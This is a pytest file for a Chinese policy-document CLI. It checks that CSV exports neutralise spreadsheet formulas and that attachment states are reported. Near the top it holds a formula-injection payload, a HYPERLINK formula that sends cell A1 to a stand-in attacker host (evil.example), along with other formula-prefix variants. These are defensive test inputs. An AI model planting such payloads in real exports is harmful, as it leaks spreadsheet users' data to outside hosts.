"""Tables as CSV, and attached files on every output."""

import csv
import io
import json
import shutil
import subprocess
import sys
from collections.abc import Callable
from datetime import UTC, datetime, timedelta, timezone
from pathlib import Path
from typing import Any

import openpyxl
import pytest

from parsers.record import Attachment, Evidence
from storage.database import open_database
from tests.zhengce.holding import NOW, hold, invented, read_file
from zhengce.cli.program import main
from zhengce.feeds import versions
from zhengce.tables import rows
from zhengce.tables.rows import csv_writer, guarded

# No command writes a CSV from which a spreadsheet runs a formula, and all begin with the mark that Excel needs


FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"关于数据的通知")'
FORMULAS = (
    FORMULA,
    "+1+1",
    "-1+1",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\t通知",
    "\r通知",
    "\n通知",
    " =1+1",
    "\u3000=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "\x00=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    "'=1+1",
)
TEXTS = ("关于数据的通知", "2021-11-16", "2021-11-16T02:30:00Z", "工信部规〔2021〕164号", "a=b", "", "“=”")


@pytest.fixture(scope="module")
def data(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A data folder with a document whose title, number and topic are formulas."""
    folder = tmp_path_factory.mktemp("data")
    database = open_database(f"sqlite:///{folder / 'zhengce.db'}")
    hold(database, invented(title=FORMULA, document_number="-1+1", topic="＝1+1", url="https://www.miit.gov.cn/1.html"))
    database.close()
    return folder


def run(data: Path, *words: str) -> Any:
    """Runs the command in this process; gives the bytes that it printed."""
    printed = io.BytesIO()
    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(sys, "argv", ["zhengce", "--data", str(data), *words])
        patch.setattr(sys, "stdout", io.TextIOWrapper(printed, encoding="utf-8"))
        main()
        sys.stdout.flush()
        return printed.getvalue()


def exported(data: Path) -> bytes:
    run(data, "export", str(data / "all.csv"))
    return (data / "all.csv").read_bytes()


WRITERS: dict[str, Callable[[Path], bytes]] = {
    "list": lambda data: bytes(run(data, "list", "--format", "csv")),
    "search": lambda data: bytes(run(data, "search", "数据", "--format", "csv")),
    "export": exported,
}


@pytest.mark.parametrize("command", WRITERS)
def test_every_csv_begins_with_the_mark_and_holds_no_formula(data: Path, command: str) -> None:
    written = WRITERS[command](data)
    assert written.startswith(b"\xef\xbb\xbf")
    assert not written.startswith(b"\xef\xbb\xbf\xef\xbb\xbf")
    cells = [cell for row in csv.reader(io.StringIO(written.decode("utf-8-sig"), newline="")) for cell in row]
    assert not [cell for cell in cells if cell.lstrip().startswith(("=", "+", "-", "@", "＝", "＋", "－", "＠"))]
    assert [cell for cell in cells if cell.startswith("'=")]


@pytest.mark.skipif(shutil.which("soffice") is None, reason="needs LibreOffice (soffice)")
def test_libreoffice_runs_no_cell_and_keeps_every_text(data: Path, tmp_path: Path) -> None:
    names = [f"{command}.csv" for command in WRITERS]
    for name, write in zip(names, WRITERS.values(), strict=True):
        (tmp_path / name).write_bytes(write(data))
    profile = f"-env:UserInstallation={(tmp_path / 'profile').as_uri()}"
    subprocess.run(
        ["soffice", profile, "--headless", "--convert-to", "xlsx", "--outdir", "out", *names],
        cwd=tmp_path,
        check=True,
        capture_output=True,
    )
    for command in WRITERS:
        sheet = openpyxl.load_workbook(tmp_path / "out" / f"{command}.xlsx").worksheets[0]
        cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
        assert not [cell.value for cell in cells if cell.data_type == "f" or cell.hyperlink], command
        assert [cell.value for cell in cells if isinstance(cell.value, str) and cell.value.startswith("'=")], command
        assert sheet["B2"].value == f"'{FORMULA}", command
        assert sheet["A2"].value == 1, command


def test_formulas_are_guarded_and_come_back_and_other_texts_stay() -> None:
    assert [guarded(text) for text in FORMULAS] == [f"'{text}" for text in FORMULAS]
    assert [guarded(text) for text in TEXTS] == list(TEXTS)
    assert [guarded(text).removeprefix("'") for text in (*FORMULAS, *TEXTS)] == [*FORMULAS, *TEXTS]


def test_numbers_truths_and_nothing_are_no_texts() -> None:
    out = io.StringIO()
    csv_writer(["a", "b", "c", "d"], out)({"a": -1, "b": -0.5, "c": True, "d": None})
    assert out.getvalue() == "\ufeffa,b,c,d\n-1,-0.5,true,\n"


def test_a_sign_that_stands_behind_a_control_character_is_guarded_when_that_is_gone() -> None:
    out = io.StringIO()
    rows.write_rows([{"title": "\x1b=1+1"}], ["title"], "csv", out)
    assert out.getvalue() == "\ufefftitle\n'=1+1\n"


def test_rows_of_every_format_write_a_moment_in_utc_to_the_second() -> None:
    moment = datetime(2021, 11, 16, 10, 30, 0, 123456, timezone(timedelta(hours=8)))
    for form in ("csv", "json", "jsonl"):
        out = io.StringIO()
        rows.write_rows([{"at": moment}, {"at": moment.astimezone(UTC)}], ["at"], form, out)
        assert out.getvalue().count("2021-11-16T02:30:00Z") == 2


# What commands, exports and feeds say of attached files


PLAN, SCAN = "https://www.miit.gov.cn/plan.pdf", "https://www.miit.gov.cn/scan.pdf"
LATER = NOW + timedelta(days=1)
TITLE = "“十四五”闸板行业发展规划"


@pytest.fixture
def folder(tmp_path: Path) -> Path:
    """A data folder with one document: a plan in a file of two pages, a scan, and a form that was not fetched."""
    links = ((f"附件：{TITLE}.pdf", PLAN), ("图样", SCAN), ("申报表", "https://www.miit.gov.cn/form.docx"))
    database = open_database(f"sqlite:///{tmp_path / 'zhengce.db'}")
    record = invented(
        title=f"关于印发{TITLE}的通知",
        issued_title=TITLE,
        attachments=tuple(Attachment(*link) for link in links),
        evidence={"issued_title": Evidence("file head", TITLE, "attachment 1, page 2")},
    )
    hold(database, record)
    with database.write() as connection:
        read_file(connection, PLAN, "总体要求", "到2025年\t56%", when=LATER)
        read_file(connection, SCAN, state="scan", when=LATER)
    database.close()
    return tmp_path


def printed(folder: Path, *words: str) -> str:
    return bytes(run(folder, *words)).decode("utf-8-sig")


def test_show_lists_each_file_with_what_became_of_it(folder: Path) -> None:
    lines = printed(folder, "show", "1", "--evidence").splitlines()
    [plan] = [line for line in lines if "text read, 2 pages" in line]
    assert f"carries 《{TITLE}》" in plan
    assert any("pictures of pages without text, sha256 " in line for line in lines)
    assert lines[[line.startswith("attachment 3") for line in lines].index(True) + 1].strip() == "not fetched"


def test_show_says_in_which_file_the_words_behind_a_value_stand(folder: Path) -> None:
    assert f"↳ file head: {TITLE} (attachment 1, page 2)" in printed(folder, "show", "1", "--evidence")


def test_search_prints_the_page_of_a_hit(folder: Path) -> None:
    assert "  │ attachment 1, page 2: 到2025年" in printed(folder, "search", '"到2025年"')


def test_an_export_for_programs_has_the_texts_and_one_for_spreadsheets_counts_the_files(folder: Path) -> None:
    parquet = pytest.importorskip("pyarrow.parquet", reason="pyarrow is not installed")
    for name in ("all.jsonl", "all.parquet", "all.csv", "all.xlsx"):
        printed(folder, "export", str(folder / name))
    texts = [
        {"attachment": 1, "page": 1, "name": None, "text": "总体要求"},
        {"attachment": 1, "page": 2, "name": None, "text": "到2025年\t56%"},
    ]
    record = json.loads((folder / "all.jsonl").read_text("utf-8"))
    assert record["attachment_texts"] == texts
    [row] = parquet.read_table(folder / "all.parquet").to_pylist()
    assert row["attachment_texts"] == texts
    assert [item["state"] for item in row["attachments"]] == ["ok", "scan", None]
    assert {why["field"]: why for why in row["evidence"]}["issued_title"]["place"] == "attachment 1, page 2"
    [cells] = csv.DictReader((folder / "all.csv").read_text("utf-8-sig").splitlines())
    assert cells["attachments"] == "3 (1 text read, 1 pictures of pages without text, 1 not fetched)"
    assert json.loads(cells["attachments_json"]) == record["attachments"]


def test_a_text_that_was_read_updates_an_entry_of_a_feed_and_makes_no_new_one(folder: Path) -> None:
    database = open_database(f"sqlite:///{folder / 'zhengce.db'}")
    with database.read() as connection:
        [version] = versions.load(connection, [], 10)
        assert (version.kind, version.number, version.changed_at) == ("new", 1, LATER)
    database.close()


def test_changes_tell_the_first_text_of_a_file(folder: Path) -> None:
    told = [json.loads(line) for line in printed(folder, "changes").splitlines()]
    assert [change["kind"] for change in told] == ["new", "read", "read"]
    [old], [new] = (
        [item for item in told[1]["fields"]["attachments"][when] if item["url"] == PLAN] for when in ("old", "new")
    )
    assert ("state" in old, new["state"], new["pages"]) == (False, "ok", 2)
